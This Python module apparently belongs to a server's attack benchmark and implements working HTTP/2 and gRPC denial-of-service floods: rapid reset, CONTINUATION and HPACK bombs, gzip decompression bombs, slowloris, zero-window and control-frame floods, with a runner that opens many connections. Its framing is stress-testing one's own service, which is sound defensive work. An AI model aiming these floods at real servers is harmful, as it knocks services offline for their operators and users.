"""Floods of HTTP/2 frames, as bytes on plain sockets: rows of `benchmarks.attacks`."""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import itertools
import os
import struct
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 0x1, 0x4
_LIST = b"/model_ingest.v1.CatalogService/ListModels"
_UPLOAD = b"/model_ingest.v1.IngestService/Upload"
_READ_BYTES = 65536
_BATCH = 50
_RECONNECT_SECONDS = 0.001


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


_SETTINGS_FRAME = frame(_SETTINGS, 0, 0)
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HELLO = _PREFACE + _SETTINGS_FRAME
_NO_WINDOW = _PREFACE + frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 0))


def _text(value: bytes) -> bytes:
    """Of HPACK, below 127 bytes or with the length in 7 bits and more."""
    length = len(value)
    if length < 127:
        return bytes([length]) + value
    head, length = bytearray([127]), length - 127
    while length >= 128:
        head.append(length % 128 + 128)
        length //= 128
    return bytes([*head, length]) + value


def _field(name: bytes, value: bytes, *, is_kept: bool = False) -> bytes:
    return (b"\x40" if is_kept else b"\x00") + _text(name) + _text(value)


def _block(path: bytes, *more: bytes) -> bytes:
    """POST over http, a path, and what gRPC asks for."""
    return b"\x83\x86" + b"\x04" + _text(path) + b"\x01" + _text(b"localhost") + b"".join(
        [_field(b"content-type", b"application/grpc"), _field(b"te", b"trailers"), *more]
    )  # fmt: skip


def _call(stream: int, path: bytes, *frames: bytes) -> bytes:
    return frame(_HEADERS, _END_HEADERS, stream, _block(path)) + b"".join(frames)


def _large_headers(stream: int, block: bytes) -> bytes:
    """A block that needs CONTINUATION frames."""
    pieces = [block[at : at + 16384] for at in range(0, len(block), 16384)]
    head = frame(_HEADERS, 0, stream, pieces[0])
    middle = b"".join(frame(_CONTINUATION, 0, stream, piece) for piece in pieces[1:-1])
    return head + middle + frame(_CONTINUATION, _END_HEADERS, stream, pieces[-1])


@dataclass(frozen=True)
class Flood:
    """What each connection sends: `begin`, then `again(stream)` for streams 1, 3, 5 and so on."""

    connections: int
    again: Callable[[int], bytes] | None = None
    begin: bytes = _HELLO
    pause_seconds: float = 0.0
    #: Closed after so many rounds, and opened anew; 0: never.
    rounds: int = 0


def _each(make: Callable[[int], bytes]) -> Callable[[int], bytes]:
    """A batch of them in one write; stream ids stay odd and rising."""
    return lambda stream: b"".join(
        make((stream // 2 * _BATCH + number) * 2 + 1) for number in range(_BATCH)
    )  # fmt: skip


def _same(piece: bytes) -> Callable[[int], bytes]:
    return lambda _: piece * _BATCH


def _message(data: bytes, *, is_compressed: bool = False) -> bytes:
    return bytes([is_compressed]) + struct.pack(">I", len(data)) + data


_EMPTY = _message(b"")
_BOMB = _message(gzip.compress(bytes(4 * 1024 * 1024 - 64)), is_compressed=True)
_KEPT = _field(b"x-kept", b"k" * 3000, is_kept=True)
#: The newest entry of the table, 3 KB each time.
_KEPT_AGAIN = b"\xbe"

FLOODS: dict[str, Flood] = {
    "idle connections": Flood(1000),
    "slowloris": Flood(500, lambda _: b"\0", _PREFACE, pause_seconds=0.5),
    "rapid reset": Flood(10, _each(lambda n: _call(n, _LIST, frame(_RST_STREAM, 0, n, b"\0\0\0\x08")))),
    "rapid reset with bodies": Flood(
        10,
        _each(
            lambda n: _call(
                n, _LIST, frame(_DATA, 0, n, _message(bytes(1024))), frame(_RST_STREAM, 0, n, b"\0\0\0\x08")
            )
        ),
    ),
    "CONTINUATION": Flood(
        10,
        _same(frame(_CONTINUATION, 0, 1, _field(b"x", b"y"))),
        _HELLO + frame(_HEADERS, 0, 1, _block(_LIST)),
    ),
    "HPACK bomb": Flood(10, lambda n: _large_headers(n, _block(_LIST, _KEPT, _KEPT_AGAIN * 20_000))),
    "240 kB of metadata": Flood(
        10, lambda n: _large_headers(n, _block(_LIST, *(_field(b"x-%d" % i, b"v" * 8000) for i in range(30))))
    ),
    "Uploads without a message, raw": Flood(100, _each(lambda n: _call(n, _UPLOAD)), rounds=2),
    "streams beyond the limit": Flood(20, _each(lambda n: _call(n, _UPLOAD)), rounds=20),
    "PING": Flood(10, _same(frame(_PING, 0, 0, bytes(8)))),
    "SETTINGS": Flood(10, _same(_SETTINGS_FRAME)),
    "empty DATA": Flood(10, _same(frame(_DATA, 0, 1)), _HELLO + _call(1, _UPLOAD)),
    "WINDOW_UPDATE": Flood(10, _same(frame(_WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))),
    "zero window": Flood(
        10, lambda n: _call(n, _LIST, frame(_DATA, _END_STREAM, n, _EMPTY)), _NO_WINDOW, 0.001, rounds=95
    ),
    "gzip bombs": Flood(
        10,
        lambda n: (
            frame(_HEADERS, _END_HEADERS, n, _block(_LIST, _field(b"grpc-encoding", b"gzip")))
            + frame(_DATA, _END_STREAM, n, _BOMB)
        ),
    ),
    "connections opened and closed": Flood(50, lambda _: b"", b"", rounds=1),
    "random bytes": Flood(50, lambda _: os.urandom(1024), b"", rounds=4),
}


async def run(flood: Flood, address: str, until: float) -> int:
    """All its connections, until that time of the monotonic clock; how many writes there were."""
    host, _, port = address.rpartition(":")
    counts = await asyncio.gather(*(_attack(flood, host, int(port), until) for _ in range(flood.connections)))
    return sum(counts)


async def _attack(flood: Flood, host: str, port: int, until: float) -> int:
    writes = 0
    while (left_seconds := until - time.monotonic()) > 0:
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(left_seconds):
                reader, writer = await asyncio.open_connection(host, port)
                reading = asyncio.create_task(_read(reader, writer))
                try:
                    writer.write(flood.begin)
                    for stream in _streams(flood):
                        if flood.again is None:
                            await reading
                            break
                        writer.write(flood.again(stream))
                        await writer.drain()
                        writes += 1
                        await asyncio.sleep(flood.pause_seconds)
                finally:
                    reading.cancel()
                    writer.transport.abort()
        await asyncio.sleep(_RECONNECT_SECONDS)
    return writes


def _streams(flood: Flood) -> Iterable[int]:
    odd = itertools.count(1, 2)
    return itertools.islice(odd, flood.rounds) if flood.rounds else odd


async def _read(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Throws away what comes, so that the server is never held up; aborts once it has closed."""
    with contextlib.suppress(OSError):
        while await reader.read(_READ_BYTES):
            pass
    writer.transport.abort()
